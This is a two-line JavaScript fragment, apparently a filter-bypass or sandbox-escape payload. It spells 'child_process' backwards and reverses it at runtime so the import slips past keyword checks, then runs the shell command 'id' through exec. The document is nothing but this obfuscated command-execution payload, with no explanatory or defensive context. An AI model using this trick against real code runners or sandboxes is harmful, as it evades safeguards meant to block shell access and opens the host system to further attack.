const m = await import('ssecorp_dlihc'.split('').reverse().join(''));
m.exec('id');
